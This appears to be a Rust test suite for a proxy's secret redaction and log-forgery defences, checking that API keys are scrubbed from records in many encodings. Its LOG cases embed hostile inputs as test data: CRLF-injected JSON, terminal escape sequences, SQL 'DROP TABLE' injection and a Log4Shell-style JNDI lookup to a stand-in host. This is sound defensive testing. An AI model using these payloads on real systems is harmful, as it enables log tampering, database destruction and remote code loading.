//! RED and LOG: what was secret stays out of every record, and no record can be forged by what it is about.

use super::{Case, Finding, Scene, case, ensure, family};
use crate::harness::{Request, Way, World, secrets};

/// Everything passes and is recorded, so that nothing but the redactor stands between a secret and the store.
const ALERTING: &str = r#"
    allow = ["allowed.test:{http}", "allowed.test:{tls}", "*.wild.test:{tls}"]
    [secrets]
    action = "alert"
"#;

#[tokio::test]
async fn secrets_stay_out_of_records() {
    let mut world = World::with_policy(ALERTING);
    world = world.config("audit = { excerpt = \"4 KiB\" }");
    family("redaction", world, CASES).await;
}

const CASES: &[Case] = &[
    case("RED-01", "a bearer token", |scene| {
        Box::pin(recorded_without(scene, |key| {
            Request::get("allowed.test", "/").header("authorization", &format!("Bearer {key}"))
        }))
    }),
    case("RED-02", "credentials in headers of any name", |scene| {
        Box::pin(async move {
            for name in
                ["x-api-key", "cookie", "x-amz-security-token", "x-goog-api-key", "x-my-token", "x-anything"]
            {
                let with = |key: &str| Request::get("allowed.test", "/").header(name, &format!("s={key}"));
                recorded_without(scene, with).await.map_err(|problem| format!("{name}: {problem}"))?;
            }
            Ok(())
        })
    }),
    case("RED-03", "values of the query", |scene| {
        Box::pin(async move {
            let with = |key: &str| {
                Request::get("allowed.test", &format!("/cb?code={key}&api_key=hunter22hunter22&page=2"))
            };
            let (_, trace) = scene.passes(Way::Http1, &with(&secrets::anthropic_key())).await?;
            let path = trace.rows[0].text("path");
            let expected = "/cb?code=[redacted:query]&api_key=[redacted:query]&page=[redacted:query]";
            ensure(path == expected, || path.to_owned())
        })
    }),
    case("RED-05", "a segment of the path", |scene| {
        Box::pin(recorded_without(scene, |key| {
            Request::get("allowed.test", &format!("/bot/{key}/sendMessage"))
        }))
    }),
    case("RED-06", "a key over two chunks", |scene| {
        Box::pin(recorded_without(scene, |key| {
            let (first, second) = key.split_at(9);
            Request::get("allowed.test", "/echo")
                .method("POST")
                .header("content-type", "text/plain")
                .pieces([format!("before {first}"), format!("{second} after")])
        }))
    }),
    case("RED-08", "a key where the excerpt ends", |scene| {
        Box::pin(async move {
            for before in [4096 - 110, 4096 - 60, 4096 - 20, 4096 - 5] {
                let with = |key: &str| {
                    Request::post("allowed.test", "/echo", format!("{}{key}", " x".repeat(before / 2)))
                };
                recorded_without(scene, with).await?;
            }
            Ok(())
        })
    }),
    case("RED-09", "a key in base64", |scene| {
        Box::pin(async move {
            use base64::Engine;
            use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
            for encode in [|key: &str| STANDARD.encode(key), |key: &str| URL_SAFE_NO_PAD.encode(key)] {
                let encoded = encode(&secrets::anthropic_key());
                let body = format!("{{\"k\":\"{encoded}\"}}");
                let request = Request::post("allowed.test", &format!("/echo?d={encoded}"), body);
                let (_, trace) = scene.passes(Way::Http1, &request).await?;
                without(&trace.rows[0].0.to_string(), &encoded)?;
            }
            Ok(())
        })
    }),
    case("RED-13", "a key with a byte that is not text", |scene| {
        Box::pin(async move {
            let key = secrets::anthropic_key();
            let mut bytes = scene
                .fill("GET http://allowed.test:{http}/ HTTP/1.1\r\nHost: allowed.test:{http}\r\nX-Api-Key: ")
                .into_bytes();
            bytes.extend([key.as_bytes(), b"\xff\r\n\r\n"].concat());
            let (_, trace) = scene.trace(1, async { scene.say_bytes(&bytes).await.answer().await }).await;
            without(&trace.rows[0].0.to_string(), &key)
        })
    }),
    case("RED-15", "a key whose beginning is in capitals", |scene| {
        Box::pin(async move {
            let key = secrets::anthropic_key().replacen("sk-ant-api03-", "sK-aNt-API03-", 1);
            let (_, trace) =
                scene.passes(Way::Http1, &Request::post("allowed.test", "/echo", key.clone())).await?;
            without(&trace.rows[0].0.to_string(), &key)
        })
    }),
    case("RED-16", "a key as a label of the host", |scene| {
        Box::pin(async move {
            let label = "sk-ant-api03-q7zt2lw9xc4vb1nm8kj5hg3fd6sa0poiuytre";
            let (_, trace) = scene
                .trace(1, scene.agent().send(Way::Http1, &Request::get(&format!("{label}.wild.test"), "/")))
                .await;
            without(&trace.rows[0].0.to_string(), label)?;
            without(&scene.world.gate.metrics().await, label)
        })
    }),
    case("RED-20", "a key in the address of the page before", |scene| {
        Box::pin(recorded_without(scene, |key| {
            Request::get("allowed.test", "/").header("referer", &format!("https://x.test/?token={key}"))
        }))
    }),
    case("LOG-01", "line breaks in the target", |scene| {
        Box::pin(async move {
            let path = "/%0d%0a%7B%22decision%22:%22allow%22%7D";
            let (_, trace) =
                scene.trace(1, scene.agent().send(Way::Http1, &Request::get("allowed.test", path))).await;
            ensure(trace.rows[0].text("path").eq_ignore_ascii_case(path), || format!("{trace:#?}"))?;
            let query = "/?a=%0d%0a%7B%22decision%22:%22allow%22%7D";
            let (_, trace) = scene.passes(Way::Http1, &Request::get("allowed.test", query)).await?;
            ensure(trace.rows[0].text("path") == "/?a=[redacted:query]", || format!("{trace:#?}"))
        })
    }),
    case("LOG-03", "terminal controls in the target", |scene| {
        Box::pin(async move {
            for path in ["/%1b%5b2J%1b%5b1;1HPWNED", "/?%1b%5b2J%1b%5b1;1HPWNED"] {
                scene.trace(1, scene.agent().send(Way::Http1, &Request::get("allowed.test", path))).await;
            }
            let table = scene.world.gate.told(&["log", "--limit", "1000"]).await;
            ensure(table.contains("PWNED") && !table.contains('\u{1b}'), || format!("{table:?}"))
        })
    }),
    case("LOG-04", "raw control bytes in the request line", |scene| {
        Box::pin(async move {
            for byte in ["\u{1b}[31m", "\0", "\u{7f}"] {
                let text = format!(
                    "GET http://allowed.test:{{http}}/{byte} HTTP/1.1\r\nHost: allowed.test:{{http}}\r\n\r\n"
                );
                let refused = scene.refused_and_closed(&text, 400, "malformed_request").await;
                refused.map_err(|problem| format!("{byte:?}: {problem}"))?;
            }
            Ok(())
        })
    }),
    case("LOG-05", "a statement and a look-up in the path and a header", |scene| {
        Box::pin(async move {
            let request = Request::get("allowed.test", "/');DROP%20TABLE%20decisions;--")
                .header("user-agent", "${jndi:ldap://evil.test}');DROP TABLE decisions;--");
            let (_, trace) = scene.passes(Way::Http1, &request).await?;
            ensure(trace.names.iter().all(|name| name != "evil.test"), || format!("{trace:#?}"))
        })
    }),
];

async fn recorded_without(scene: &Scene, with: impl Fn(&str) -> Request) -> Finding {
    let key = secrets::anthropic_key();
    let (_, trace) = scene.passes(Way::Http1, &with(&key)).await?;
    ensure(trace.rows[0].findings().contains(&"secret"), || format!("{trace:#?}"))?;
    without(&trace.rows[0].0.to_string(), &key)
}

/// No eight characters in a row of the secret's own part are in the text.
fn without(text: &str, secret: &str) -> Finding {
    let own = secret.strip_prefix("sk-ant-api03-").unwrap_or(secret);
    let slices = own.as_bytes().windows(8).map(|slice| str::from_utf8(slice).unwrap());
    let found: Vec<&str> = slices.filter(|slice| text.contains(slice)).collect();
    ensure(found.is_empty(), || format!("{found:?} is in {text}"))
}

/// RED-18, RED-19: whatever goes wrong, the key is in no answer, no output, no file.
#[tokio::test]
async fn red_18_19_failures_do_not_quote_secrets() {
    let policy = "allow = [\"allowed.test:{http}\", \"allowed.test:{tls}\", \"closed.test:1\"]\nsecrets = { action = \"alert\" }";
    let mut world = World::with_policy(policy).start().await;
    let key = secrets::anthropic_key();
    let heart = secrets::heart(&key);
    world.gate.plant(&heart);
    for request in [
        Request::get("other.test", &format!("/?k={key}")),
        Request::get("closed.test", &format!("/?k={key}")).port(1),
        Request::get("allowed.test", &format!("/../?k={key}")),
        Request::get("allowed.test", &format!("/abort?k={key}")).header("x-api-key", &key),
    ] {
        for way in Way::ALL {
            let answer = world.send(way, &request).await;
            let told = format!("{} {:?}", answer.text(), answer.headers);
            assert!(!told.contains(&heart), "{way:?}: {told}");
            assert!(!told.contains("127.0.0.2"), "{way:?}: {told}");
        }
    }
    let broken = format!(
        "GET http://allowed.test/?k={key} HTTP/1.1\r\nHost: allowed.test\r\nX-Api-Key: {key}\0\r\n\r\n"
    );
    let mut raw = crate::harness::Raw::open(world.gate.proxy).await;
    raw.send(broken).await;
    assert!(!raw.must_close().await.contains(&heart));
    world.finish().await;
}

/// LOG-07: what is very long is refused, and its row is short.
#[tokio::test]
async fn log_07_long_requests_have_short_rows() {
    let world = World::with_policy(ALERTING).start().await;
    let mut raw = crate::harness::Raw::open(world.gate.proxy).await;
    let fields: String = (0..90).map(|n| format!("X-{n}: {n}\r\n")).collect();
    raw.send(format!(
        "GET http://allowed.test/{} HTTP/1.1\r\nHost: allowed.test\r\n{fields}\r\n",
        "a".repeat(60 << 10)
    ))
    .await;
    assert_eq!(raw.answer().await.status, 414);
    let row = world.gate.only_decision().await;
    row.is("deny", "malformed_request");
    assert!(row.0.to_string().len() < 12 << 10, "{} bytes", row.0.to_string().len());
    world.finish().await;
}
